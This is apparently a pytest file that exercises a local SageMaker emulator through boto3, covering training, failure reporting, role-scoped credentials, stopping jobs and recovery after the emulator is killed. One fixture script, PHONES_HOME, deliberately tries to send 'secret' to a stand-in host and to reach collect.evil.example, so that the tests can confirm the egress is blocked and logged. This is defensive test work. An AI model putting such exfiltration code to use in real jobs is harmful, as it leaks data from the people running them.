"""Training with boto3 against a running factory: a script trains, fails, is stopped, outlives a killed factory."""

from __future__ import annotations

import io
import json
import os
import resource
import tarfile
import time
from contextlib import closing
from typing import TYPE_CHECKING, Any

import boto3
import pytest
from botocore.config import Config

from tests.journeys.running import Factory, wait_until

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

pytestmark = pytest.mark.usefixtures("confined")
CONFIG = Config(retries={"max_attempts": 3, "mode": "standard"})
LOG_GROUP = "/aws/sagemaker/TrainingJobs"
OVER = {"Completed", "Failed", "Stopped"}
TRUST = {
    "Version": "2012-10-17",
    "Statement": [{"Effect": "Allow", "Principal": {"Service": "sagemaker.amazonaws.com"}, "Action": "sts:AssumeRole"}],
}
DATA = {
    "Version": "2012-10-17",
    "Statement": [
        {"Effect": "Allow", "Action": "s3:ListBucket", "Resource": "arn:aws:s3:::training"},
        {"Effect": "Allow", "Action": ["s3:GetObject", "s3:PutObject"], "Resource": "arn:aws:s3:::training/*"},
    ],
}
TRAINS = """
import argparse, csv, json, os, pathlib
parser = argparse.ArgumentParser()
parser.add_argument("--epochs", type=int)
parser.add_argument("--rate", type=float)
given = parser.parse_args()
rows = [tuple(map(float, row)) for row in csv.reader(open(os.environ["SM_CHANNEL_TRAIN"] + "/points.csv"))]
slope = offset = 0.0
for epoch in range(given.epochs):
    for x, y in rows:
        error = slope * x + offset - y
        slope, offset = slope - given.rate * error * x, offset - given.rate * error
    print(f"loss: {sum((slope * x + offset - y) ** 2 for x, y in rows):.6f}")
(pathlib.Path(os.environ["SM_MODEL_DIR"]) / "line.json").write_text(json.dumps([slope, offset]))
"""
ASKS_WHO_IT_IS = """
import datetime, hashlib, hmac, json, os, urllib.error, urllib.request
kept = json.load(urllib.request.urlopen(os.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"]))
body, now = b"Action=GetCallerIdentity&Version=2011-06-15", datetime.datetime.now(datetime.timezone.utc)
stamp, day = now.strftime("%Y%m%dT%H%M%SZ"), now.strftime("%Y%m%d")
headers = {"host": "127.0.0.1:8080", "x-amz-date": stamp, "x-amz-security-token": kept["Token"]}
names = ";".join(sorted(headers))
lines = "".join(f"{name}:{headers[name]}\\n" for name in sorted(headers))
canonical = "\\n".join(["POST", "/", "", lines, names, hashlib.sha256(body).hexdigest()])
scope = f"{day}/us-east-1/sts/aws4_request"
key = ("AWS4" + kept["SecretAccessKey"]).encode()
for part in scope.split("/"):
    key = hmac.digest(key, part.encode(), "sha256")
text = "\\n".join(["AWS4-HMAC-SHA256", stamp, scope, hashlib.sha256(canonical.encode()).hexdigest()])
signature = hmac.new(key, text.encode(), "sha256").hexdigest()
headers["authorization"] = (
    f"AWS4-HMAC-SHA256 Credential={kept['AccessKeyId']}/{scope}, SignedHeaders={names}, Signature={signature}"
)
headers["content-type"] = "application/x-www-form-urlencoded"
print(urllib.request.urlopen(urllib.request.Request(os.environ["AWS_ENDPOINT_URL"], body, headers)).read().decode())
try:
    urllib.request.urlopen("http://10.0.0.1/", timeout=3)
except urllib.error.URLError as error:
    print("outside:", error.reason)
"""
PHONES_HOME = """
import socket, sys
def tries(reach):
    try: reach()
    except OSError: pass
def sends():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        one.connect(("2001:db8:9::9", 514))
        one.send(b"secret")
tries(lambda: socket.create_connection(("203.0.113.9", 443), 30))
tries(sends)
tries(lambda: socket.getaddrinfo("collect.evil.example", 443))
sys.exit("nobody is home")
"""
WAITS = """
import pathlib, signal, sys, time
model = pathlib.Path("/opt/ml/model")
def save(*_):
    (model / "saved").write_text("1")
    sys.exit(0)
signal.signal(signal.SIGTERM, save)
print("ready")
for step in range(int(sys.argv[2])):
    time.sleep(0.1)
(model / "whole").write_text("1")
"""


class Trainer:
    """Clients of one factory, a bucket and a role."""

    def __init__(self) -> None:
        session = boto3.Session()
        self.s3 = session.client("s3", config=CONFIG)
        self.logs = session.client("logs", config=CONFIG)
        self.sagemaker = session.client("sagemaker", config=CONFIG)
        iam = session.client("iam", config=CONFIG)
        self.s3.create_bucket(Bucket="training")
        role = iam.create_role(RoleName="trainer", AssumeRolePolicyDocument=json.dumps(TRUST))
        self.role = role["Role"]["Arn"]
        iam.put_role_policy(RoleName="trainer", PolicyName="data", PolicyDocument=json.dumps(DATA))
        iam.close()

    def close(self) -> None:
        """Let go of the connections."""
        self.s3.close()
        self.logs.close()
        self.sagemaker.close()

    def create(self, name: str, script: str, **changes: Any) -> None:
        """Upload the source and start the job."""
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
            member = tarfile.TarInfo("train.py")
            member.size = len(script)
            tar.addfile(member, io.BytesIO(script.encode()))
        self.s3.put_object(Bucket="training", Key=f"{name}/source/sourcedir.tar.gz", Body=buffer.getvalue())
        parameters = changes.pop("HyperParameters", {}) | {
            "sagemaker_program": '"train.py"',
            "sagemaker_submit_directory": f'"s3://training/{name}/source/sourcedir.tar.gz"',
        }
        asked: dict[str, Any] = {
            "AlgorithmSpecification": {"TrainingImage": "usina/python", "TrainingInputMode": "File"},
            "RoleArn": self.role,
            "OutputDataConfig": {"S3OutputPath": "s3://training/out"},
            "ResourceConfig": {"InstanceType": "ml.t3.medium", "InstanceCount": 1, "VolumeSizeInGB": 1},
            "StoppingCondition": {"MaxRuntimeInSeconds": 300},
        }
        self.sagemaker.create_training_job(TrainingJobName=name, HyperParameters=parameters, **(asked | changes))

    def process(self, name: str, script: str) -> None:
        """Start a processing job whose output goes to `NAME/`."""
        target = {
            "S3Uri": f"s3://training/{name}",
            "LocalPath": "/opt/ml/processing/out",
            "S3UploadMode": "EndOfJob",
        }
        self.sagemaker.create_processing_job(
            ProcessingJobName=name,
            AppSpecification={"ImageUri": "usina/python", "ContainerEntrypoint": ["python3", "-c", script]},
            ProcessingOutputConfig={"Outputs": [{"OutputName": "out", "S3Output": target}]},
            ProcessingResources={
                "ClusterConfig": {"InstanceType": "ml.t3.medium", "InstanceCount": 1, "VolumeSizeInGB": 1}
            },
            RoleArn=self.role,
        )

    def processed(self, name: str) -> dict[str, Any] | None:
        """The processing job, once it is over."""
        seen = self.sagemaker.describe_processing_job(ProcessingJobName=name)
        return dict(seen) if seen["ProcessingJobStatus"] in OVER else None

    def describe(self, name: str) -> dict[str, Any]:
        """The job, as it is."""
        return dict(self.sagemaker.describe_training_job(TrainingJobName=name))

    def until(self, name: str, *states: str) -> dict[str, Any]:
        """Wait for one of these states."""

        def reached() -> dict[str, Any] | None:
            seen = self.describe(name)
            return seen if {seen["TrainingJobStatus"], seen["SecondaryStatus"]} & set(states) else None

        return dict(wait_until(reached, 60, f"{name} to be {states}"))

    def model(self, name: str) -> dict[str, bytes]:
        """The files of a job's model."""
        body = self.s3.get_object(Bucket="training", Key=f"out/{name}/output/model.tar.gz")["Body"].read()
        with tarfile.open(fileobj=io.BytesIO(body)) as tar:
            return {member.name: tar.extractfile(member).read() for member in tar if member.isreg()}  # type: ignore[union-attr] # regular


@pytest.fixture(scope="module")
def training_factory(new_factory: Callable[[], Factory]) -> Factory:
    """A factory of these tests' own: one of them kills it."""
    return new_factory()


@pytest.fixture(scope="module")
def trainer(training_factory: Factory) -> Iterator[Trainer]:
    """Clients of it."""
    with pytest.MonkeyPatch.context() as patch:
        for name in list(os.environ):
            if name.startswith(("AWS_", "OPENAI_", "USINA_")):
                patch.delenv(name)
        for name, value in training_factory.kit().items():
            if name != "PYTHONPATH":  # of new programs, not of the factory that is started again
                patch.setenv(name, value)
        with closing(Trainer()) as made:
            yield made


def test_a_script_trains_on_a_channel_and_its_model_is_in_the_store(trainer: Trainer) -> None:
    points = "\n".join(f"{x / 10},{2 * x / 10 - 1}" for x in range(10))
    trainer.s3.put_object(Bucket="training", Key="points/points.csv", Body=points.encode())
    source = {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": "s3://training/points/"}}
    trainer.create(
        "line",
        TRAINS,
        HyperParameters={"epochs": "300", "rate": "0.1"},
        InputDataConfig=[{"ChannelName": "train", "DataSource": source}],
        AlgorithmSpecification={
            "TrainingImage": "usina/python",
            "TrainingInputMode": "File",
            "MetricDefinitions": [{"Name": "loss", "Regex": "loss: ([0-9.]+)"}],
        },
    )
    seen = trainer.until("line", *OVER)
    assert seen["TrainingJobStatus"] == "Completed", seen
    slope, offset = json.loads(trainer.model("line")["line.json"])
    assert abs(slope - 2) < 0.01
    assert abs(offset + 1) < 0.01
    assert seen["ModelArtifacts"]["S3ModelArtifacts"] == "s3://training/out/line/output/model.tar.gz"
    assert seen["FinalMetricDataList"][0]["MetricName"] == "loss"
    assert [step["Status"] for step in seen["SecondaryStatusTransitions"]][-1] == "Completed"
    logged = trainer.logs.filter_log_events(logGroupName=LOG_GROUP, logStreamNamePrefix="line/")["events"]
    assert len(logged) == 300
    assert logged[-1]["message"].startswith("loss: 0.0")
    created = trainer.sagemaker.create_model(
        ModelName="line",
        ExecutionRoleArn=trainer.role,
        PrimaryContainer={
            "Image": "usina/python",
            "ModelDataUrl": seen["ModelArtifacts"]["S3ModelArtifacts"],
        },
    )
    assert created["ModelArn"].endswith(":model/line")


def test_a_script_that_fails_tells_why(trainer: Trainer) -> None:
    trainer.create("fails", "raise ValueError('the data is upside down')")
    seen = trainer.until("fails", *OVER)
    assert seen["TrainingJobStatus"] == "Failed"
    assert "ValueError: the data is upside down" in seen["FailureReason"]


def test_a_program_reaches_the_front_door_as_its_role_and_nothing_else(trainer: Trainer) -> None:
    trainer.create("asks", ASKS_WHO_IT_IS)
    seen = trainer.until("asks", *OVER)
    assert seen["TrainingJobStatus"] == "Completed", seen
    logged = trainer.logs.filter_log_events(logGroupName=LOG_GROUP, logStreamNamePrefix="asks/")["events"]
    text = "".join(event["message"] for event in logged)
    assert ":assumed-role/trainer/SageMaker" in text
    assert "outside: [Errno 1" in text  # refused, or no network at all
    trainer.create("alone", ASKS_WHO_IT_IS, EnableNetworkIsolation=True)
    assert "AWS_CONTAINER_CREDENTIALS_FULL_URI" in trainer.until("alone", *OVER)["FailureReason"]


def test_a_job_that_phones_home_is_stopped_from_it_and_shows_in_its_log_and_the_ledger(
    trainer: Trainer, training_factory: Factory
) -> None:
    trainer.create("phones", PHONES_HOME)
    seen = trainer.until("phones", *OVER)
    assert "nobody is home" in seen["FailureReason"]
    logged = trainer.logs.filter_log_events(logGroupName=LOG_GROUP, logStreamNamePrefix="phones/")["events"]
    text = "\n".join(event["message"] for event in logged)
    assert "secret" not in text
    if "not recorded" in (training_factory.home / "logs" / "usina.jsonl").read_text():
        pytest.skip("attempts are not recorded on this machine")
    for destination in ("203.0.113.9:443 by TCP", "[2001:db8:9::9]:514 by UDP", "the name collect.evil.example"):
        assert f"tried to reach {destination}" in text
    done = training_factory.command("ledger", "tail", "-n", "200", "--json")
    records = [json.loads(line) for line in done.stdout.splitlines()]
    notes = [record for record in records if record.get("resource", "").endswith(":training-job/phones")]
    assert {note["kind"] for note in notes} == {"egress-refused"}
    assert {note["destination"] for note in notes} == {"203.0.113.9", "2001:db8:9::9", "collect.evil.example"}
    assert {(note["account"], note["role"]) for note in notes} == {(trainer.role.split(":")[4], trainer.role)}
    shown = training_factory.command("ledger", "tail", "-n", "200").stdout
    assert "training-job/phones" in shown
    assert "tcp 203.0.113.9:443" in shown


def test_a_factory_takes_as_many_descriptors_as_it_may(trainer: Trainer, training_factory: Factory) -> None:
    del trainer  # it runs
    assert training_factory.process is not None
    soft, hard = resource.prlimit(training_factory.process.pid, resource.RLIMIT_NOFILE)
    assert soft == hard or soft >= 65_536


def test_a_stopped_job_saves_what_it_has(trainer: Trainer) -> None:
    trainer.create("stops", WAITS, HyperParameters={"steps": "6000"})
    trainer.until("stops", "Training")
    time.sleep(0.5)
    trainer.sagemaker.stop_training_job(TrainingJobName="stops")
    seen = trainer.until("stops", *OVER)
    assert (seen["TrainingJobStatus"], seen["SecondaryStatus"]) == ("Stopped", "Stopped")
    assert "saved" in trainer.model("stops")


def test_a_job_outlives_a_killed_factory(trainer: Trainer, training_factory: Factory) -> None:
    trainer.create("survives", WAITS, HyperParameters={"steps": "30"})
    trainer.until("survives", "Training")
    trainer.process("survives-too", "import time; time.sleep(0.5); open('/opt/ml/processing/out/file', 'w').write('1')")
    training_factory.kill()
    training_factory.start()
    seen = trainer.until("survives", *OVER)
    assert seen["TrainingJobStatus"] == "Completed", seen
    assert "whole" in trainer.model("survives")
    assert [step["Status"] for step in seen["SecondaryStatusTransitions"]].count("Training") == 1
    other = wait_until(lambda: trainer.processed("survives-too"), 60, "the processing job to be over")
    assert other["ProcessingJobStatus"] == "Completed", other
    assert trainer.s3.get_object(Bucket="training", Key="survives-too/file")["Body"].read() == b"1"
